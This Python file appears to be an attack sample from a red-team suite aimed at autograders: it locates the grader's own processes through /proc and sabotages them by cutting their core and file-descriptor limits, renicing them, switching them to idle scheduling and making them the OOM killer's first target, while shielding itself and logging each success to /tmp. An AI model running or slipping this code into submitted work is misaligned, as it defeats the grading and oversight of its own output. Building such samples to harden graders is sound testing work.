"""Lowers the limits (prlimit64), the priority, the CPU affinity and the OOM score of the grader's processes, so that they fail instead of it.

family: signals
start: solved
"""

# %% first
_done = []


def _achieved(what, stem="prlimit_and_renice_the_grader"):
    """Leave a trace of a success, outside if that is possible."""
    import os

    folders = ["/tmp", "/var/tmp", os.path.expanduser("~")]
    try:
        import pwd

        folders.append(pwd.getpwuid(os.getuid()).pw_dir)
    except Exception:
        pass
    for folder in folders:
        try:
            with open(os.path.join(folder, "autograder-attack-" + stem), "a") as file:
                file.write(str(what)[:2000] + "\n")
        except Exception:
            pass
    _done.append(str(what)[:200])


def _report():
    """Say it in the report too: the cell error is carried out."""
    if _done:
        raise AssertionError("ACHIEVED: " + "; ".join(_done[:5]))

def _graders():
    """The grader's own Python processes (ancestors and their children; else those that the command line names), no others."""
    import os

    def read(pid, what):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as file:
                return file.read()
        except OSError:
            return b""

    def argv(pid):
        return [os.fsdecode(part) for part in read(pid, "cmdline").split(b"\0") if part]

    def parent(pid):
        fields = read(pid, "stat").rpartition(b")")[2].split()
        return int(fields[1]) if len(fields) > 1 else 0

    def is_grader(pid, names):
        words = argv(pid)
        if pid <= 2 or pid == os.getpid() or not words or not os.path.basename(words[0]).startswith("python"):
            return False
        return any(word.startswith("autograder.") or os.path.basename(word) in names for word in words[1:4])

    names = {"autograder", "otter", "pytest", "py.test", "ipykernel_launcher"}
    found, pid = [], os.getppid()
    while pid > 2 and pid not in found and is_grader(pid, names):
        found.append(pid)
        pid = parent(pid)
    try:
        others = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        others = []
    for other in others:
        if other not in found and is_grader(other, names if found else {"autograder"}):
            if not found or parent(other) in found:
                found.append(other)
    return found

import os
import resource

for _pid in _graders():
    for _name, _call in (
        ("prlimit", lambda: resource.prlimit(_pid, resource.RLIMIT_CORE, (0, 0))),
        ("setpriority", lambda: os.setpriority(os.PRIO_PROCESS, _pid, 19)),
        ("sched_setaffinity", lambda: os.sched_setaffinity(_pid, os.sched_getaffinity(_pid))),
        ("sched_setscheduler", lambda: os.sched_setscheduler(_pid, os.SCHED_IDLE, os.sched_param(0))),
        ("oom_score_adj", lambda: open(f"/proc/{_pid}/oom_score_adj", "w").write("1000")),
        ("limits to 8 descriptors", lambda: resource.prlimit(_pid, resource.RLIMIT_NOFILE, (8, resource.prlimit(_pid, resource.RLIMIT_NOFILE)[1]))),
    ):
        try:
            _call()
            _achieved(f"{_name} of {_pid}")
        except Exception:
            continue
try:
    with open("/proc/self/oom_score_adj", "w") as _file:
        _file.write("-1000")
    _achieved("the OOM killer will spare us")
except OSError:
    pass
try:
    # By user id all processes of the user are meant: never where that is the machine's root.
    with open("/proc/self/uid_map") as _file:
        _inside, _outside, _count = (int(word) for word in _file.read().split()[:3])
    if _outside + os.getuid() - _inside != 0:
        os.setpriority(os.PRIO_USER, 0, 19)
except Exception:
    pass
try:
    os.setpriority(os.PRIO_PROCESS, 0, -20)
    _achieved("priority -20")
except OSError:
    pass
_report()
